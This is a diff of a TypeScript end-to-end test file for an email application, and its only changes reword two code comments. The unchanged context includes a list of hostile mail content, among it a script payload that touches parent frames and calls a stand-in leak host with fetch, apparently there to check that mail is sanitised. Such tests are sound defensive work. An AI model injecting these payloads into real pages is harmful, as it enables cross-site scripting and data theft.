@@ -45,7 +45,7 @@ const sendMail = async (mail: Mail): Promise<string> => {
 
 const readEmail = async (id: string) => (await customer.client.get(`/api/emails/${id}`)).body
 
-/** Everything that a mail could try to do to whoever looks at it. */
+/** Everything that a mail could try to do to its reader. */
 const HOSTILE = [
   '<p id="shown">Dear reader</p>',
   '<script>top.hacked = 1; parent.hacked = 1; fetch("https://leak.test/script")</script>',
@@ -166,7 +166,7 @@ const followMail = async (visit: Visit) => {
 
 const suppressions = async (query = '') => (await customer.client.get(`/api/suppressions?${query}`)).body
 
-/** A file of addresses, its bad lines told. */
+/** A file of addresses, its bad lines reported. */
 const importSuppressions = async (visit: Visit) => {
   const { page } = visit
   await page.getByRole('button', { name: 'Clear search' }).click()
